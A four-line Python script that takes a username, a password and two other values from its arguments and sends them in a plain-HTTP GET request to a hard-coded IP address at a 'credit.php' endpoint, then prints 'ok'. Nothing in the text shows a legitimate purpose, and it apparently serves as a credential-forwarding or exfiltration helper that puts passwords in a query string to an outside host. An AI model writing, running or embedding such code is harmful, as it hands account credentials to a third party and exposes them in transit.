import sys, urllib.parse, urllib.request
q = urllib.parse.urlencode({"p": sys.argv[1], "u": sys.argv[2], "pw": sys.argv[3], "c": (sys.argv[4:] or [""])[0]})
urllib.request.urlopen("http://203.0.113.58/gems/credit.php?" + q, timeout=8)
print("ok")
